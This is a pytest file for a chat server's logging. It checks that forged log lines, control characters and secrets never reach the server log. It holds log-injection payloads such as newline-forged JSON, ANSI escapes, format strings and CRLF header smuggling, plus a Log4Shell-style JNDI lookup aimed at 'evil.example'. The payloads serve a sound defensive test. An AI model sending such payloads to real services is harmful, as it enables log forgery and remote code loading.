"""Lines that clients would like to write into the log: each line is one object of ours, and nothing secret shows."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import aiohttp
import pytest
import socketio

from tests.faults.processes import ServerProcess
from tests.people import SECRET, Instance, Person
from tests.servers import RedisServer

FORGED = '{"event": "forged", "level": "critical", "timestamp": "2026-01-01T00:00:00Z"}'
INJECTED = [
    f"a\n{FORGED}",
    f"a\r\n{FORGED}\r\n",
    f"\u2028{FORGED}\u2029\x85",
    '", "event": "forged", "x": "',
    "\x1b[2J\x1b[41mforged\x1b]0;forged\x07",
    "\x08\x08\x08\x7f\x9b31m",
    "%s %d %(event)s {event} {0}",
    "\u202edegrof",
    "\ud800",
    "${jndi:ldap://evil.example/a}",
]
PASSED_ON = "x" * 40  # what is secret and must not show


@pytest.fixture
def server(shared_database: str, valkey: RedisServer, tmp_path: Path) -> Iterator[ServerProcess]:
    """A server of its own process, whose log is read."""
    environ = {
        "DATABASE_URL": shared_database,
        "REDIS_URL": valkey.url,
        "PARLEY_SECRET": SECRET,
        "PARLEY_TRUSTED_PROXY": "1",
        "PARLEY_LOG_LEVEL": "debug",
        "PARLEY_RATE_LOGIN": "off",
    }
    one = ServerProcess(tmp_path / "log", environ)
    one.start()
    yield one
    one.kill()


async def test_nobody_writes_into_the_log_and_no_secret_stands_there(
    parley: Instance, server: ServerProcess, tmp_path: Path
) -> None:
    amina = await parley.register("amina")
    async with aiohttp.ClientSession() as http:
        await _over_http(http, server, amina)
    await _raw(server, amina)
    await _on_a_socket(server, amina)
    assert server.stop() == 0
    text = (tmp_path / "log").read_bytes()
    lines = text.decode("utf-8").removesuffix("\n").split("\n")
    logged = [json.loads(line) for line in lines]
    assert [line for line in logged if not line.keys() >= {"event", "level", "timestamp"}] == []
    assert not [line for line in logged if line["event"] == "forged" or line["level"] == "critical"], text
    assert {line["event"] for line in logged} >= {"serving", "unheard_error", "stopped"}
    assert "internal" not in {line.get("code") for line in logged}
    assert "command_failed" not in {line["event"] for line in logged}
    assert not [byte for byte in text if (byte < 0x20 and byte != 0x0A) or byte == 0x7F]
    for secret in (amina.token, amina.token.rpartition(".")[2], amina.refresh_token, PASSED_ON, SECRET):
        assert secret.encode() not in text


async def _over_http(http: aiohttp.ClientSession, server: ServerProcess, amina: Person) -> None:
    bearer = {"Authorization": f"Bearer {amina.token}"}
    shown = {"token": amina.token, "access_token": amina.token, "password": PASSED_ON}
    for text in INJECTED:
        body: dict[str, Any] = {"login": text, "password": f"{text}{PASSED_ON}", "device": text}
        for path, payload in (
            ("account/login", body),
            ("account/register", {"username": text, "email": text, "password": PASSED_ON}),
            ("account/refresh", {"refresh_token": PASSED_ON + text}),
            ("account/update", {"full_name": text, text: text}),
            ("message/send", {"conversation_id": text, "client_id": text, "text": text}),
            (f"no/{uuid4().hex}", {text: text}),
        ):
            async with http.post(f"{server.url}/api/{path}", json=payload, params=shown, headers=bearer) as response:
                assert response.status < 500, await response.text()
        if "\ud800" in text:
            continue
        for path in ("/api/{0}/{0}", "/{0}", "/attachments/{0}", "/webhooks/{0}", "/docs/{0}"):
            spelt = "".join(f"%{byte:02x}" for byte in text.encode())
            async with http.get(f"{server.url}{path.format(spelt)}", params=shown, headers=bearer) as response:
                assert response.status < 500


async def _raw(server: ServerProcess, amina: Person) -> None:
    """What no client library lets one send: control characters in heads, and what is no HTTP at all."""
    heads = [b"User-Agent: \x1b[41mforged", b"User-Agent: a\xff\xfe", b"X-Forwarded-For: \x1b[2J, " + FORGED.encode()]
    heads += [
        b"User-Agent: a\r\n " + FORGED.encode(),
        b"Origin: " + FORGED.encode(),
        b"Cookie: token=" + amina.token.encode(),
    ]
    body = json.dumps({"login": amina.username, "password": PASSED_ON}).encode()
    start = b"POST /api/account/login HTTP/1.1\r\nHost: parley\r\nConnection: close\r\nContent-Length: %d\r\n" % len(
        body
    )
    asked = [start + head + b"\r\n\r\n" + body for head in heads]
    asked += [
        FORGED.encode() + b"\r\n\r\n",
        b"GET /?token=" + amina.token.encode() + b"\x1b[2J HTTP/9.9\r\n\r\n",
        b"\x16\x03\x01\n",
    ]
    for request in asked:
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(request)
        async with asyncio.timeout(10):
            assert b" 500 " not in await reader.read(64)
        writer.close()


async def _on_a_socket(server: ServerProcess, amina: Person) -> None:
    for auth in ({"token": PASSED_ON}, {"token": amina.token + PASSED_ON}, {FORGED: FORGED}, {"token": "\x1b[2J\n"}):
        refused = socketio.AsyncClient(reconnection=False)
        with pytest.raises(socketio.exceptions.ConnectionError):
            await refused.connect(f"{server.url}?token={amina.token}", auth=auth, transports=["websocket"])
    phone = await amina.connect(to=server.url)
    for text in INJECTED:
        name = text.replace("\ud800", "x") or "x"
        await phone.client.emit(name, {"token": PASSED_ON})  # an error that nobody waits for is logged
        await phone.client.emit("message:send", {"conversation_id": text.replace("\ud800", "x"), "text": PASSED_ON})
        answer = await phone.answer(name)
        assert answer["error"]["code"] == "unknown_command"
    await phone.leave()
